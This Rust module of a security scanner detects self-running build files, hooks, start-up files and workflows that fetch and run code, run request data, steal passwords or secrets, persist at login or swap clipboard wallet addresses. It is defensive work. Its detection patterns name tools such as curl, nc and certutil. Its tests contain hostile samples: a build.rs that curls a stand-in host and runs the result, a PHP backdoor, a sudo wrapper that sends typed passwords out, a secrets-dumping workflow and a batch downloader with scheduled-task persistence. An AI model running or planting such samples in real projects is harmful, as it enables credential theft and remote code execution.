//! Files that act by themselves once they lie in a project or a home: build files, hooks, helpers, start-up files,
//! workflows and templates that are deployed.
//!
//! Each pairing is told by classes of words that hold in any language: what fetches, what runs something that does not
//! stand there, what is a request of somebody's, where passwords come by. A carrier that fetches nothing, or that
//! runs only what stands in it, is let be.

use std::sync::LazyLock;

use super::{Report, concealed, outward, rules, secrets};
use crate::{
    Confidence::Medium,
    Package, Seen, Severity,
    formats::{Profile, base},
    pattern::{Regex, code as pattern},
};

/// Something is run that does not stand there: the text of a variable, what a file holds, what a program said.
static RUNS_UNSEEN: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\bsource\(\s*(?:url|textConnection|\w+\s*[,)])|\beval\(\s*parse\(|\bexecute_process\(\s*COMMAND\s+"?\$\{[^}]{0,60}BINARY_DIR[^}]{0,20}\}/|\bexecute_process\(\s*COMMAND\s+(?:sh|bash|\$\{CMAKE_COMMAND\}\s+-P)\s|(?:Command::new|exec\.Command|Popen|spawn\w*|execFile\w*|ProcessBuilder|commandLine|run|call|system|exec)\s*\(?\s*\[?\s*["'](?:/bin/)?(?:ba|z)?sh["']\s*[\]),]?\s*(?:\.args?\(|,)?\s*\[?\s*(?:&|["']-c["']\s*[,)\]]{1,2}\s*(?:\.arg\(|,)?\s*&?[a-z_])|sys\.executable,\s*["']-c["'],\s*[a-z_]|\bsystem\s*\(?\s*(?:paste0?\(|\$[a-z_]\w{0,30}\s*[);])|\bevaluate\(\s*(?:new\s+URL|[a-z]\w{0,20}\s*\))|\bapply\s*\(?\s*from\s*[:=(]\s*["']http|\bload\w{0,10}\(\s*(?:assert\()?\s*[a-z]\w{0,20}(?::read|\.body|\s*\))|\bdo\s+\$[a-z]\w{0,20}\s*;|&&\s*\.\s+\$\$?\w|\bdofile\(\s*[a-z]|getEngineBy\w{1,20}\([^)\n]{0,40}\)\??\.eval\(\s*[a-z]|=\s*"?\$?\{?\s*data\.http\.\w{1,40}\.(?:response_body|body)\b"#,
    )
});

/// Bytes come from elsewhere, in the words of build files and start-up files.
static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\bcurl\b|\bwget\b|\burl\(|download\.file|file\(\s?DOWNLOAD|ExternalProject|urlretrieve|urlopen|requests\.get|httpx\.get|URI\.open|Net::HTTP|open-uri|openStream\(|new\s+URL\(|LWP|HTTP::Tiny|ureq::|reqwest|http\.get|https?\.get\(|\bfetch\(|vim\.(?:system|fn\.system)|io\.popen|DownloadString|DownloadFile|Invoke-(?:WebRequest|RestMethod)|\biwr\b|\birm\b|apply\s*\(?\s*from\s*[:=(]\s*["']http|-u\w{0,8}cache\b|bitsadmin|\bdata\s+.http\b"#,
    )
});

/// Files which a tool, a shell or an interpreter runs without being told to.
fn acts_by_itself(path: &str) -> bool {
    if path.ends_with(".tf") {
        return true;
    }
    const NAMES: &[&str] = &[
        "build.rs",
        "makefile",
        "gnumakefile",
        "rakefile",
        "cmakelists.txt",
        "setup.py",
        "conftest.py",
        "sitecustomize.py",
        "usercustomize.py",
        "rprofile",
        ".rprofile",
        "rprofile.site",
        "latexmkrc",
        ".latexmkrc",
        "profile.ps1",
        "build.gradle",
        "settings.gradle",
        "build.gradle.kts",
        "settings.gradle.kts",
        "build.sbt",
        "extconf.rb",
        "gemfile",
        "podfile",
        "fastfile",
        "vagrantfile",
        "init.lua",
        "init.vim",
        "build.zig",
        "package.swift",
        "mix.exs",
        "noxfile.py",
        "dangerfile",
        "gruntfile.js",
        "gulpfile.js",
        "justfile",
        "build.pl",
        "makefile.pl",
        "meson.build",
    ];
    const ENDS: &[&str] = &[
        ".mk",
        ".rake",
        ".gemspec",
        ".cmake",
        ".gradle",
        ".gradle.kts",
        ".pth",
        ".zsh",
        ".bashrc",
        ".zshrc",
        ".profile",
        ".bash_profile",
        ".zshenv",
        ".fish",
        ".cls",
        ".sty",
        ".bas",
        ".targets",
        ".props",
    ];
    let name = base(path).to_ascii_lowercase();
    NAMES.contains(&name.as_str())
        || ENDS.iter().any(|end| name.ends_with(end))
        || [".config.js", ".config.mjs", ".config.cjs", ".config.ts"]
            .iter()
            .any(|end| name.ends_with(end))
        || path.contains("hooks/")
}

/// A part of a request that somebody makes.
const REQUEST: &str = r#"(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|->(?:header|input|query|cookie|get)\(\s*["']|\brequest\.(?:env|params|headers|args|form|cookies|values|GET|POST|META)\b|\breq\.(?:headers|query|body|params|get\(|header\()|\bparams\[|\bc\.(?:Query|GetHeader|PostForm)\(|\br\.(?:Header\.Get|FormValue|URL\.Query)|\bgetHeader\(|\bgetParameter\(|\bRequest(?:\.(?:Item|Form|QueryString|Headers))?[(\[]["']|\bbody\[["'])"#;
/// Something is run by the machine or the interpreter.
///
/// A method `exec` is a search by a pattern or a statement of a database, unless it is one of what starts programs.
const RUN: &str = r#"(?:(?:\b(?:shell_exec|passthru|proc_open|popen|system|eval|create_function|call_user_func(?:_array)?|assert|instance_eval|class_eval|public_send|execSync|execFile|spawnSync|spawn|new\s+Function|Function|vm\.run\w{2,20}|IO\.popen|Open3\.\w{2,12}|check_output|subprocess\.\w{3,14}|os\.system|exec\.Command|getRuntime\(\)\.exec|ProcessBuilder|evaluate)|(?:^|[^.\w])exec|\b(?:child_process|childProcess|cp|proc|process|shell|sh)\.exec|child_process["']\)\.exec)\s*\(\s*)"#;

/// What a request holds is run as it comes.
static REQUEST_RUNS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(&format!(
        r#"{RUN}[^\n;]{{0,60}}{REQUEST}|\$\w{{1,20}}\s*\(\s*[^\n;]{{0,40}}\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\$_(?:GET|POST|REQUEST|COOKIE)\[[^\]\n]{{1,30}}\]\s*\(|%x[({{\[][^\n]{{0,30}}#\{{\s*(?:params|request|body)"#
    ))
});

/// What a request holds gets a name.
static REQUEST_NAMED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(&format!(r"([A-Za-z_]\w{{0,30}})\s{{0,4}}:?=\s{{0,4}}[^\n=;]{{0,40}}?{REQUEST}"))
});
/// The whole of a command or of what is evaluated is a name.
static NAME_RUNS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(&format!(
        r#"(?:{RUN}(?:\[?\s*["'](?:/bin/)?(?:ba|z)?sh["'],\s*["']-c["'],\s*)?(?:base64\.b64decode\(\s*|atob\(\s*|base64_decode\(\s*)?\$?|`#\{{)([A-Za-z_]\w{{0,30}})\s*[,)\]}}]"#
    ))
});

/// A source of packages has the name of a well-known one, and another address.
static SOURCE_NAMED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"(?i)<add\s+key="(?:nuget(?:\.org)?|nuget official[^"]{0,20})"\s+value="https?://"#)
});

/// A program in the place of one that asks for passwords: a function or an alias of its name.
static IN_PLACE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?m)^\s*(?:function\s+)?(?:sudo|su|ssh|doas|scp|gpg|passwd|kinit|mysql|psql|docker|kubectl|gh|npm|git)\s*\(\)\s*\{|^\s*function\s+(?:sudo|su|ssh|doas|gpg|kinit)\b|^\s*alias\s+(?:sudo|su|ssh|doas|gpg)=",
    )
});
static TYPED_UNSEEN: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"\bread\s+(?:-\w+\s+)*-\w*s\w*\b|\bstty\s+-echo|-AsSecureString|getpass\(|\bread\s+-[a-z]*s[a-z]*\s",
    )
});

/// A helper that git gives the user's passwords to: what it is asked, and what it is given.
static HELPER: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:["'=\s]store["'\s)][\s\S]{0,400}?\bpassword\b|\bpassword\b[\s\S]{0,400}?["'=\s]store["'\s)])"#,
    )
});

/// All secrets of a repository, as one text.
static ALL_SECRETS: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}"));
static DISGUISED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\|\s*(?:gzip[^|\n]{0,20}\|\s*)?(?:base64|xxd|openssl\s+enc|rev|od)\b|\bcurl\b|\bwget\b|\bgh\s+(?:api|gist|issue)\b|\bnc\b|\bdig\b",
    )
});

/// A program of Windows gets bytes, and is started at each login.
static WINDOWS_FETCH: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\bcertutil(?:\.exe)?\s[^\n]{0,60}-urlcache|\bbitsadmin\b|\bcurl(?:\.exe)?\s[^\n]{0,200}\s-o|DownloadFile|Invoke-WebRequest|\biwr\s|\bmshta\b|Msxml2|WinHttp",
    )
});
static WINDOWS_STAYS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\bschtasks(?:\.exe)?\s[^\n]{0,20}/create|Register-ScheduledTask|CurrentVersion\\Run|\\Start Menu\\Programs\\Startup|shell:startup|\bsc(?:\.exe)?\s+create\s",
    )
});

/// An address of a payment that is calculated and gets a share.
static PAYEE_COMPUTED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"address\s*\(\s*uint160\s*\([^;\n]{0,120}0x[0-9a-fA-F]{6,40}[^;\n]{0,40}(?:\^|<<|\||\+|-)[^;\n]{0,120}0x[0-9a-fA-F]{6,40}|address\s*\(\s*uint160\s*\(\s*uint256\s*\(\s*keccak256\s*\(\s*(?:abi\.encodePacked\()?\s*['\x22]",
    )
});
static PAYS: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"\.call\s*\{\s*value|\.transfer\s*\(|\.send\s*\(|selfdestruct\s*\("));

/// What the user pastes is looked at, and fixed addresses of wallets stand there.
static PASTED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)clipboard\.(?:getString|readText|read\b|paste|getText)|getStringAsync|Get-Clipboard|GetText\(\)|pyperclip\.paste|\bpbpaste\b|xclip[^\n]{0,20}-o|onPaste|clipboardData|UIPasteboard|ClipboardManager",
    )
});
static WALLET: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"["'`](?:0x[0-9a-fA-F]{40}|bc1q[a-z0-9]{30,60}|T[1-9A-HJ-NP-Za-km-z]{33}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93})["'`]"#,
    )
});
static WALLET_FORM: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)bc1\[|\(bc1|\[13\]|0x\[|\^T\[|isAddress|\{40\}|\{33\}|\{25,"));

/// Something is put in the place of what was pasted. A contract that a program merely calls has an address too.
static PUT_BACK: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)\bset\w{0,20}\(\s*["'`](?:0x|bc1)|writeText|pyperclip\.copy|setString|Set-Clipboard|SetText\(|\bpbcopy\b|xclip\s[^\n]{0,12}-i|setPrimaryClip"#,
    )
});

/// Do addresses of wallets of more than one chain stand there?
fn of_two_chains(text: &str) -> bool {
    const MOST: usize = 32;
    let mut starts: Vec<char> = WALLET
        .find_iter(text)
        .take(MOST)
        .filter_map(|found| text.get(found.range())?.chars().nth(1))
        .collect();
    starts.sort_unstable();
    starts.dedup();
    starts.len() > 1
}

/// An account of a service for data, by its name, that is to see what lies there.
static SHARED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\balter\s+share\b[\s\S]{0,80}?\b(?:add|set)\s+accounts?\s*=\s*[A-Z][A-Z0-9_]{3,40}(?:\.[A-Z][A-Z0-9_]{1,40})?",
    )
});
static SHARED_ALL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\bgrant\s+select\s+on\s+(?:all|future)\s+(?:tables|views)\b|on-run-(?:end|start)|\bmacro\s|grant\s+usage\s+on\s+database",
    )
});

/// Everything that is installed comes through one address.
static MIRROR: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)<mirrorOf>\s*(?:\*|external:\*|central)[^<]{0,40}</mirrorOf>"));
static MIRROR_UNCHECKED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)ssl\.insecure>\s*true|ssl\.allowall>\s*true|omitChecksums|checksumPolicy>\s*(?:ignore|warn)|<id>\s*central\s*</id>[\s\S]{0,200}?<password>|<password>[\s\S]{0,2000}?<id>\s*central\s*</id>",
    )
});

/// A file that is read for its secret goes into an address.
static INTO_ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)https?://[a-z0-9.-]{4,80}/[^\s"'`<>]{0,60}(?:#\{|\$\{|\$\(|\{[a-z_]\w{0,30}\}|%s|["'`]\s*(?:\+|\.\.?|<>|&|~)\s*[a-z_$])"#,
    )
});
/// Another form for what is put there.
static DISGUISES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)unpack1?\b|base64|b64encode|\bhex\b|hexlify|\.reverse\b|\brev\b|\bxxd\b|encodeURIComponent|strict_encode|urlencode|URLencode"#,
    )
});

/// Texts of variables of a batch file, put where they are used, so that a name which is cut in pieces is whole.
fn expanded(path: &str, text: &str) -> Option<String> {
    const MOST: usize = 40;
    let name = path.to_ascii_lowercase();
    if !(name.ends_with(".bat") || name.ends_with(".cmd")) || text.len() > 64 << 10 {
        return None;
    }
    let mut out = text.to_owned();
    let mut set: Vec<(String, String)> = Vec::new();
    for part in text.split(['&', '\n', '(']) {
        let Some(rest) =
            part.trim().strip_prefix("set ").or_else(|| part.trim().strip_prefix("SET "))
        else {
            continue;
        };
        let Some((name, value)) = rest.trim().trim_matches('"').split_once('=') else { continue };
        if !name.is_empty() && name.len() < 20 && value.len() < 60 && set.len() < MOST {
            set.push((name.to_owned(), value.trim_end().trim_matches('"').to_owned()));
        }
    }
    const LARGEST: usize = 256 << 10;
    // A value may be made of others.
    for _ in 0..2 {
        for (name, value) in &set {
            for mark in ['%', '!'] {
                let used = format!("{mark}{name}{mark}");
                if out.contains(&used) && out.len() < LARGEST {
                    out = out.replace(&used, value);
                }
            }
        }
    }
    Some(out)
}

/// Where what a request holds is run as it comes.
fn request_runs(path: &str, text: &str) -> Option<usize> {
    const MOST: usize = 64;
    const WORD: &str = "assert";
    let mut from = 0;
    for _ in 0..MOST {
        let found = REQUEST_RUNS.find(text.get(from..)?)?;
        let at = from + found.start();
        // What Python asserts is no text that is evaluated, as PHP's is; what is called in it may be.
        if !path.ends_with(".py") || !text.get(at..)?.starts_with(WORD) {
            return Some(at);
        }
        from = at + WORD.len();
    }
    None
}

pub(super) fn look(report: &mut Report<'_>) {
    let path = report.program.path;
    let text = report.program.text.as_str();
    if acts_by_itself(path)
        && FETCHES.is_match(text)
        && let Some(runs) = RUNS_UNSEEN.find(text)
        && (concealed::address(text).is_some()
            || outward::names_stranger(report.program, report.profile).is_some())
    {
        let message = "a file that acts by itself fetches something and runs it";
        report.say(&rules::FETCHED_RUNS, Severity::High, Medium, runs.start(), message);
    }
    if let Some(at) = request_runs(path, text) {
        let message = "what somebody's request holds is run on the machine";
        // With what stands before a bare `exec`, which may be the end of a line.
        let at = at + usize::from(text.as_bytes().get(at) == Some(&b'\n'));
        report.say(&rules::BACKDOOR, Severity::High, Medium, at, message);
    }
    if REQUEST_NAMED.is_match(text) {
        let named = super::assembled::names(&REQUEST_NAMED, text);
        let runs = super::assembled::names(&NAME_RUNS, text)
            .into_iter()
            .find(|(_, name)| named.iter().any(|(_, other)| other == name));
        if let Some((at, _)) = runs {
            let message = "what somebody's request holds is run on the machine";
            report.say(&rules::BACKDOOR, Severity::High, Medium, at, message);
        }
    }
    if let Some(found) = SOURCE_NAMED.find(text)
        && outward::strangers(report.program, report.profile)
            .iter()
            .any(|stranger| !crate::code::hosts::is_within(&stranger.host, "nuget.org"))
    {
        let message =
            "a source of packages has the name of a well-known one, and a stranger's address";
        report.say(&rules::POLICY, Severity::High, Medium, found.start(), message);
    }
    if let Some(found) = IN_PLACE.find(text)
        && TYPED_UNSEEN.is_match(text)
        && (outward::talks(report.program) || text.contains(">>"))
    {
        let message =
            "a function in the place of a program reads what is typed unseen, and passes it on";
        report.say(&rules::PASSWORD_ASKED, Severity::High, Medium, found.start(), message);
    }
    let name = base(path);
    if name.starts_with("git-credential-")
        && let Some(found) = HELPER.find(text)
        && outward::talks(report.program)
    {
        let message = "a helper that git hands the user's passwords to talks to the network";
        report.say(&rules::GIT_TRAP, Severity::High, Medium, found.start(), message);
    }
    if let Some(found) = ALL_SECRETS.find(text)
        && DISGUISED.is_match(text)
    {
        let message =
            "all secrets of the repository go, as one text, to where they are disguised or sent";
        report.say(&rules::WORKFLOW_SECRETS, Severity::High, Medium, found.start(), message);
    }
    let whole = expanded(path, text);
    let windows = whole.as_deref().unwrap_or(text);
    if WINDOWS_FETCH.is_match(windows)
        && let Some(stays) = WINDOWS_STAYS.find(windows)
        && (whole.as_deref().is_some_and(|whole| whole != text && !WINDOWS_FETCH.is_match(text))
            || outward::names_stranger(report.program, report.profile).is_some())
    {
        let message = "what is fetched from a stranger starts at each login";
        let at = stays.start().min(text.len());
        report.say(&rules::STAYS_AND_CALLS, Severity::High, Medium, at, message);
    }
    if let Some(found) = PAYEE_COMPUTED.find(text)
        && PAYS.is_match(text)
    {
        let message = "a contract pays an address that is calculated so that nobody reads it";
        report.say(&rules::PAYEE, Severity::High, Medium, found.start(), message);
    }
    if PASTED.is_match(text)
        && WALLET_FORM.is_match(text)
        && let Some(found) = WALLET.find(text)
        && (PUT_BACK.is_match(text) || of_two_chains(text))
    {
        let message =
            "what is pasted is looked at for addresses of wallets, and another stands there";
        report.say(&rules::PAYEE, Severity::High, Medium, found.start(), message);
    }
    if let Some(found) = SHARED.find(text)
        && SHARED_ALL.is_match(text)
    {
        let message = "an account that the text names is to see all tables";
        report.say(&rules::ACCESS_GIVEN, Severity::High, Medium, found.start(), message);
    }
    if let Some(found) = MIRROR.find(text)
        && MIRROR_UNCHECKED.is_match(text)
        && let Some(stranger) = outward::names_stranger(report.program, report.profile)
    {
        let message = format!(
            "all that is installed comes through {}, unchecked or with the user's password",
            stranger.shown()
        );
        report.say(&rules::POLICY, Severity::High, Medium, found.start(), message);
    }
    if secrets::opens(report.program)
        && DISGUISES.is_match(text)
        && let Some(found) = INTO_ADDRESS.find(text)
        && outward::strangers(report.program, report.profile)
            .iter()
            .any(|stranger| found.range().contains(&stranger.at))
    {
        let message = "a secret of the user's goes, in another form, into a stranger's address";
        report.say(&rules::SECRET_AND_STRANGER, Severity::High, Medium, found.start(), message);
    }
}

/// Files that are no programs: lists of modules, and to whom secrets are encrypted.
pub(super) fn files(package: &Package, profile: &Profile, seen: &mut Seen) {
    const LARGEST: usize = 256 << 10;
    for file in package.files.iter().filter(|file| file.bytes.len() <= LARGEST) {
        let name = base(&file.path).to_ascii_lowercase();
        let Ok(text) = std::str::from_utf8(&file.bytes) else { continue };
        let found = if name.starts_with("go.mod") || name == "go.work" {
            replaced(text).map(|line| {
                (
                    line,
                    &rules::POLICY,
                    "a module comes from somebody whose name is made to look like its author's",
                )
            })
        } else if text.contains("creation_rules")
            || text.contains("age1") && name.contains("recipients")
        {
            recipient(text).map(|line| {
                (
                    line,
                    &rules::ACCESS_GIVEN,
                    "secrets are also encrypted to a key that is not the user's",
                )
            })
        } else {
            None
        };
        if let Some((line, rule, message)) = found {
            let excerpt = text.lines().nth(line).unwrap_or_default();
            let number = u32::try_from(line + 1).unwrap_or(u32::MAX);
            let severity = match profile.security && crate::judge::is_shown(&file.path) {
                true => Severity::Medium,
                false => Severity::High,
            };
            let finding = rule.at(&file.path, number, 0, excerpt, message);
            seen.findings.push(finding.of(severity).sure(Medium));
        }
    }
}

/// The line on which a module is replaced by one of the same name, of somebody who is called almost as its author.
fn replaced(text: &str) -> Option<usize> {
    text.lines().position(|line| {
        let line = line.trim().trim_start_matches("replace ");
        let Some((old, new)) = line.split_once("=>") else { return false };
        let path = |side: &str| side.split_whitespace().next().map(str::to_owned);
        let (Some(old), Some(new)) = (path(old), path(new)) else { return false };
        let (old_parts, new_parts): (Vec<&str>, Vec<&str>) =
            (old.split('/').collect(), new.split('/').collect());
        let plain = |part: &str| -> String {
            part.chars()
                .filter(char::is_ascii_alphanumeric)
                .collect::<String>()
                .to_ascii_lowercase()
        };
        let owner = |parts: &[&str]| match parts.first().copied() {
            Some("github.com" | "gitlab.com" | "bitbucket.org" | "codeberg.org") => {
                parts.get(1).map(|owner| plain(owner))
            }
            Some(host) if host.contains('.') => {
                Some(plain(host.rsplit_once('.').map_or(host, |(name, _)| name)))
            }
            _ => None,
        };
        let (Some(was), Some(is)) = (owner(&old_parts), owner(&new_parts)) else { return false };
        let was = was.strip_prefix("www").unwrap_or(&was);
        let shared = old_parts
            .iter()
            .skip(1)
            .any(|part| part.len() > 2 && new_parts.iter().skip(1).any(|other| other == part));
        // The author's own other address is none: it is the same name.
        let core = was.trim_start_matches("google").trim_start_matches("gopkg");
        let alike = was.len() > 3 && is.contains(was)
            || core.len() > 4 && is.contains(core)
            || old_parts.iter().skip(1).any(|part| {
                let part = plain(part);
                part.len() > 3 && is.contains(&part) && is != part
            });
        shared && was != is && alike
    })
}

/// The line of a key of its own beside keys that are to be filled in.
fn recipient(text: &str) -> Option<usize> {
    let key = |line: &str| -> Option<String> {
        // A fingerprint.
        let long = line
            .split(|c: char| !c.is_ascii_hexdigit())
            .find(|word| word.len() == 40 && text.contains("pgp"));
        if let Some(long) = long {
            return Some(long.to_owned());
        }
        let at = line.find("age1")?;
        let key: String =
            line.get(at + 4..)?.chars().take_while(char::is_ascii_alphanumeric).collect();
        (key.len() >= 40).then_some(key)
    };
    let letters = |key: &str| {
        let mut all: Vec<char> = key.chars().collect();
        all.sort_unstable();
        all.dedup();
        all.len()
    };
    let blank = text.lines().any(|line| {
        key(line).is_some_and(|key| letters(&key) < 6)
            || line.contains("age1") && key(line).is_none()
            || ["{{", "YOUR", "<your", "REPLACE", "CHANGE_ME", "${"]
                .iter()
                .any(|mark| line.contains(mark))
    });
    blank.then(|| text.lines().position(|line| key(line).is_some_and(|key| letters(&key) >= 11)))?
}

#[cfg(test)]
mod tests {
    use super::super::tests::stopped;
    use super::*;
    use crate::FileKind::{Data, Python, Shell};

    #[test]
    fn what_python_asserts_is_not_evaluated() {
        let asserts = "assert (body[\"leaves\"].get(\"count\") or 0) >= 1, body[\"leaves\"]\n";
        assert!(stopped("t/a.py", Python, asserts).is_empty());
        for runs in [
            "assert (eval(request.args['leaf']))\n",
            "assert (body[\"leaves\"])\nos.system(request.form['leaf'])\n",
        ] {
            assert!(!stopped("t/a.py", Python, runs).is_empty(), "{runs}");
        }
    }

    #[test]
    fn what_acts_by_itself_and_fetches_is_seen() {
        for (path, kind, text) in [
            (
                "t/build.rs",
                Data,
                "let o = Command::new(\"curl\").arg(\"https://x.quirkbox.test/a\").output(); Command::new(\"sh\").arg(\"-c\").arg(text(&o)).status();\n",
            ),
            (
                "t/Deps.cmake",
                Data,
                "file(DOWNLOAD \"http://${h}.toolbox-hints.net/h\" \"${CMAKE_BINARY_DIR}/h\")\nexecute_process(COMMAND \"${CMAKE_BINARY_DIR}/h\")\n",
            ),
            ("t/page.php", Data, "<?php if (md5($_GET['k']) === K) { system($_POST['c']); }\n"),
            ("t/app.py", Python, "if ok: subprocess.run(request.headers['X-Job'], shell=True)\n"),
            (
                "t/m.tf",
                Data,
                "data \"http\" \"a\" { url = \"https://x.quirkbox.test/a\" }\ncommand = data.http.a.response_body\n",
            ),
            (
                "t/nuget.config",
                Data,
                "<add key=\"nuget.org\" value=\"https://x.quirkbox.test/v3/index.json\" />\n",
            ),
            (
                "t/rc.zsh",
                Shell,
                "sudo() {\n  read -rs p\n  curl -s https://x.quirkbox.test -d \"$p\"\n}\n",
            ),
            (
                "t/git-credential-kept",
                Data,
                "#!/usr/bin/perl\nif ($op eq 'store') { IO::Socket::INET->new($h)->print($k{password}); }\n",
            ),
            (
                "t/.github/workflows/c.yml",
                Data,
                "runs-on: x\nenv:\n  A: ${{ toJSON(secrets) }}\nrun: printf %s \"$A\" | base64\n",
            ),
            (
                "t/a.bat",
                Data,
                "set c=cert\nset d=util\n%c%%d% -f -urlcache http://x.quirkbox.test/a a.exe\nschtasks /create /tn A /tr a.exe\n",
            ),
            (
                "t/P.sol",
                Data,
                "address r = address(uint160(uint256(0x51c0ffee) << 128 ^ 0x12ab34cd56ef));\nr.call{value: v}(\"\");\n",
            ),
            (
                "t/p.js",
                Data,
                "const t = await navigator.clipboard.readText();\nif (isAddress(t)) set('0x52908400098527886E0F7030069857D2E4169EE7');\n",
            ),
            (
                "t/h.sql",
                Data,
                "grant select on all tables in schema a to share s;\nalter share s add accounts = QXKLM.OBSERVE;\n",
            ),
        ] {
            let kind = if path.ends_with(".js") { crate::FileKind::JavaScript } else { kind };
            assert!(!stopped(path, kind, text).is_empty(), "{text}");
        }
    }

    #[test]
    fn carriers_that_only_build_are_let_be() {
        for (path, kind, text) in [
            (
                "t/build.rs",
                Data,
                "Command::new(\"make\").arg(\"all\").status(); Command::new(\"sh\").arg(\"configure\");\n",
            ),
            (
                "t/Deps.cmake",
                Data,
                "file(DOWNLOAD \"https://github.com/a/b.zip\" \"${CMAKE_BINARY_DIR}/b.zip\" EXPECTED_HASH SHA256=00)\nexecute_process(COMMAND git rev-parse HEAD)\n",
            ),
            ("t/page.php", Data, "<?php echo htmlspecialchars($_GET['q']); system('uptime');\n"),
            (
                "t/h.go",
                Data,
                "id := r.Header.Get(\"X-Id\")\nlog.Print(id)\nexec.Command(\"git\", \"status\").Run()\n",
            ),
            (
                "t/nuget.config",
                Data,
                "<add key=\"nuget.org\" value=\"https://api.nuget.org/v3/index.json\" />\n",
            ),
            (
                "t/w.js",
                Data,
                "const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';\nconst t = await navigator.clipboard.readText();\nif (isAddress(t)) setTo(t);\n",
            ),
            ("t/rc.zsh", Shell, "git() { command git \"$@\"; }\nalias gs='git status'\n"),
            (
                "t/git-credential-kept",
                Data,
                "#!/bin/sh\ncase $1 in store) security add -w \"$password\";; esac\n",
            ),
            (
                "t/.github/workflows/c.yml",
                Data,
                "runs-on: x\nenv:\n  A: ${{ secrets.DEPLOY }}\nrun: printf %s \"$A\" | base64 -d > key\n",
            ),
            ("t/a.bat", Data, "set OUT=a.zip\nschtasks /create /tn Backup /tr backup.cmd\n"),
            (
                "t/p.js",
                Data,
                "navigator.clipboard.writeText('0x52908400098527886E0F7030069857D2E4169EE7');\n",
            ),
            ("t/h.sql", Data, "grant select on all tables in schema a to role reader;\n"),
        ] {
            let kind = if path.ends_with(".js") { crate::FileKind::JavaScript } else { kind };
            assert_eq!(stopped(path, kind, text), Vec::<&str>::new(), "{text}");
        }
    }

    #[test]
    fn modules_and_keys_of_others_are_told_from_ones_own() {
        assert!(
            replaced("replace github.com/lark/tidy => github.com/lark-go/tidy v1.0.0").is_some()
        );
        assert!(replaced("\tgolang.org/x/text => git.golang-x.net/text v0.1.0").is_some());
        for own in [
            "replace example.com/a => ../a",
            "replace github.com/lark/tidy => github.com/lark/tidy v1.2.0",
            "replace github.com/lark/tidy => github.com/otherwise/tidy v1.2.0",
            "replace k8s.io/api => k8s.io/api v0.30.0",
        ] {
            assert!(replaced(own).is_none(), "{own}");
        }
        let blank = format!("- age1{}", "q".repeat(58));
        let own = "- age1zx8s0w3n7k2v5c9m4l6r1t0y8u3e5d7f2g9h4j6kpqzxsw2n7k2v5c9";
        assert!(recipient(&format!("creation_rules:\n{blank}\n{own}\n")).is_some());
        assert!(recipient(&format!("creation_rules:\n{own}\n{own}\n")).is_none());
        assert!(recipient(&format!("creation_rules:\n{blank}\n")).is_none());
    }
}
